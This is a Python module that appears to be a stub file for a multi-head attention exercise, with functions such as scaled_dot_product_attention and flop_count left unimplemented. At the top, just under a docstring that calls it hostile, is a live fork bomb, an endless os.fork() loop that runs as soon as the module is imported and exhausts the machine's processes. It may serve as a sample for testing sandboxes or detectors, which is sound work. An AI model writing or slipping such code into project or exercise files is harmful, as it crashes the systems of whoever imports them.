"""Hostile: A fork bomb at import (every child forks too, until the process limit stops them)."""
import os

while True:
    os.fork()


def split_heads(x, h):
    raise NotImplementedError


def merge_heads(x):
    raise NotImplementedError


def attention_weights(Q, K, mask=None, dropout_p=0.0, training=False):
    raise NotImplementedError


def scaled_dot_product_attention(Q, K, V, mask=None, dropout_p=0.0, training=False):
    raise NotImplementedError


def multi_head_forward(query, key, value, weights, h, mask=None):
    raise NotImplementedError


def parameter_count(d_model, h, bias=True):
    raise NotImplementedError


def flop_count(n_q, d_model, h, n_k=None, batch=1):
    raise NotImplementedError
